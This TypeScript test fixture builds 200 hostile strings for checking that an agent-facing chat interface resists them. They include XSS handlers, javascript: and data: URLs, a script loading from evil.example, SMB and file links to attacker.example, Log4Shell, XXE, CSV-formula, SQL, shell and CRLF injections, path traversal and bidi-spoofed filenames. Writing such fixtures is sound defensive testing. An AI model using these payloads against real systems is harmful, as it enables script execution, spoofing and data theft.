import { hostileTexts } from './hostile-texts.ts';

/** How many there are of them (the number). */
export const howMany = 200;

/**
 * What a customer, or the page that they come from, may write to get something run or loaded on the agent's side, to
 * look like somebody else, or to break what is on the screen. `origin` is a server that must never be asked; `__ran` a
 * variable that must never be set.
 */
export function hostilePayloads(origin: string): readonly string[] {
  const all = [
    ...hostileTexts(origin),
    ...handlers(origin),
    ...schemes(origin),
    ...languages(origin),
    ...directions(),
    ...piles(),
    ...lengths(origin),
    ...unseen(),
  ];
  const each = [...new Set(all)];
  if (each.length < howMany) throw new Error(`only ${each.length} payloads`);
  return each.slice(0, howMany);
}

/** Every element that can begin something by itself. */
function handlers(origin: string): string[] {
  const run = 'window.__ran=1';
  return [
    `<body onload="${run}">`,
    `<body onpageshow=${run}>`,
    `<audio src=x onerror="${run}"></audio>`,
    `<video src="${origin}/v" autoplay onloadstart="${run}"></video>`,
    `<marquee onstart="${run}">go</marquee>`,
    `<select autofocus onfocus="${run}">`,
    `<textarea autofocus onfocus="${run}">`,
    `<button autofocus onfocus="${run}">x</button>`,
    `<keygen autofocus onfocus="${run}">`,
    `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
    `<svg><set onbegin="${run}" attributeName=x dur=1s>`,
    `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
    `<svg><use href="${origin}/sprite.svg#x"></use></svg>`,
    `<svg><image href="${origin}/svg-image.png"/></svg>`,
    `<svg><foreignObject><iframe src="${origin}/foreign"></iframe></foreignObject></svg>`,
    `<math href="javascript:${run}">x</math>`,
    `<img srcset="${origin}/set.png 2x" src=x>`,
    `<picture><source srcset="${origin}/source.png"><img></picture>`,
    `<img src="${origin}/lazy.png" loading=eager>`,
    `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:${run}>`,
    `<img/src="x"/onerror=${run}>`,
    `<img src=x onerror\u000a=${run}>`,
    `<<script>${run}//<</script>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<script\u0009src=//evil.example>`,
    `<a href="${origin}/ping" ping="${origin}/pinged">x</a>`,
    `<area shape=default href="javascript:${run}">`,
    `<form><button formaction="javascript:${run}">x</button></form>`,
    `<frameset onload="${run}"><frame src="${origin}/frame2"></frameset>`,
    `<template><img src="${origin}/template" onerror="${run}"></template>`,
    `<dialog open onclose="${run}">x</dialog>`,
    `<portal src="${origin}/portal"></portal>`,
    `<link rel=import href="${origin}/import">`,
    `<link rel=modulepreload href="${origin}/module.js">`,
    `<style>@font-face{font-family:x;src:url(${origin}/font)}*{font-family:x}</style>`,
    `<p style="width:expression(${run})">x</p>`,
    `<div style="position:fixed;inset:0;z-index:9999;background:red">over everything</div>`,
    `<!--><img src=x onerror=${run}>-->`,
    `<![CDATA[><img src=x onerror=${run}>]]>`,
    `</li></ul></div></main><h1>out</h1>`,
    `"autofocus onfocus="${run}" x="`,
    `'-${run}-'`,
    `\`;${run};\``,
  ];
}

/** Addresses that must never be opened, or never by themselves. */
function schemes(origin: string): string[] {
  const run = 'window.__ran=1';
  const bare = [
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    `java\tscript:${run}`,
    `javascript&colon;${run}`,
    `\u0001javascript:${run}`,
    `javascript://example.com/%0a${run}`,
    `vbscript:msgbox(1)`,
    `data:text/html,<script>${run}</script>`,
    `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==`,
    `data:image/svg+xml,<svg onload=${run}>`,
    'file:///etc/passwd',
    'file://attacker.example/share/x.exe',
    String.raw`\\attacker.example\share\x.exe`,
    '//attacker.example/x',
    'smb://attacker.example/share',
    'ms-msdt:/id PCWDiagnostic',
    'search-ms:query=x&crumb=location:\\\\attacker.example',
    'chrome://settings',
    'devtools://devtools/bundled/inspector.html',
    'app://desk/index.html',
    'view-source:https://example.com',
    'blob:https://example.com/1',
    'about:blank',
    'intent://scan/#Intent;scheme=zxing;end',
    'tel:*%2306%23',
    'mailto:a@example.com?bcc=b@example.com&body=x%0d%0ax',
    'https://user:secret@example.com/',
    'https://аррӏе.com/',
    'https://example.com\u2044evil.example/',
    'https://example.com\u202Egpj.exe',
    `${origin}/plain-address`,
  ];
  return [
    ...bare,
    ...bare.slice(0, 14).map((address) => `<a href="${address}">here</a>`),
    ...bare.slice(6, 24).map((address) => `![here](${address})`),
  ];
}

/** What other programs on the way would take for a command. */
function languages(origin: string): string[] {
  return [
    '{{7*7}}{{constructor.constructor("window.__ran=1")()}}',
    '#{7*7}<%= 7*7 %>[[7*7]]',
    `\${jndi:ldap://${origin.replace('http://', '')}/a}`,
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "${origin}/entity">]><x>&e;</x>`,
    `=HYPERLINK("${origin}/csv","open")`,
    '=cmd|" /C calc"!A0',
    "'; DROP TABLE entry; --",
    '$(touch /tmp/ran) `touch /tmp/ran` | touch /tmp/ran',
    '%s%s%s%n%x',
    // What a library that fills in texts would take for a tag of its own, or for what every object has.
    '<0>bold</0>',
    '<0/><1/>',
    '<constructor/>',
    '<toString>x</toString>',
    '../../../../etc/passwd',
    'CON.txt',
    '{"__proto__":{"ran":1}}',
    'constructor',
    '__proto__',
    'toString',
    'undefined',
    '[object Object]',
    'a\r\nSet-Cookie: ran=1',
  ];
}

/** What turns the direction of reading, and leaves it turned. */
function directions(): string[] {
  const letters = 'invoice-gpj.exe';
  return [
    `\u202E${letters}`,
    `\u202D${letters}`,
    `\u202B${letters}`,
    `\u202A${letters}`,
    `\u2067${letters}`,
    `\u2066${letters}`,
    `\u2068${letters}`,
    `\u200F${letters}\u200F`,
    `\u061C${letters}`,
    '\u2067'.repeat(200),
    '\u202E'.repeat(130) + letters,
    `\u2069\u202C${letters}\u2069\u202C`,
    'مرحبا 123 abc مرحبا (x) [y]',
    'שלום 1,2,3 a/b/c',
    '\u202Eنص مقلوب\u202C ok',
  ];
}

/** Marks over marks, and letters that are higher than a line. */
function piles(): string[] {
  return [
    ...[10, 40, 120].map((n) => `Z${'\u0301\u0322\u035C\u0489'.repeat(n)}algo`),
    'a\u0300'.repeat(200),
    `${'ก็'.repeat(3)}${'\u0E49'.repeat(100)}`,
    `ཨ${'\u0F71\u0F72\u0F74'.repeat(40)}`,
    '﷽'.repeat(40),
    '꧁꧂'.repeat(30),
    `a${'\u20DD'.repeat(30)}`,
    '𒐫'.repeat(60),
  ];
}

/** What is wider, longer or more than any place for it. */
function lengths(origin: string): string[] {
  return [
    'W'.repeat(7000),
    `${'\u00A0'.repeat(3000)}x`,
    'x\u2060'.repeat(2000),
    '一'.repeat(7000),
    '😀'.repeat(1500),
    '👨‍👩‍👧‍👦'.repeat(300),
    `https://example.com/${'a'.repeat(3000)}`,
    `${origin}/${'b/'.repeat(1500)}`,
    `${'x\n'.repeat(1500)}x`,
    `${'\t'.repeat(500)}x`,
    `${'>'.repeat(500)} quote`,
    '|'.repeat(4000),
  ];
}

/** What cannot be seen, and what no text should have in it. */
function unseen(): string[] {
  return [
    `${'\u200B'.repeat(500)}x`,
    '\u3164\u3164x',
    '\u2800\u2800x',
    '\uFEFFx',
    'a\u2028b\u2029c',
    'a\u0007\u0008\u001B[31mred',
    'a\u0085b\u009Bc',
    '\u{E0001}\u{E0041}tagged',
    '\uFFFE\uFFFFx',
    'a\u000Bb\u000Cc',
    `${'\u00AD'.repeat(300)}soft`,
  ];
}
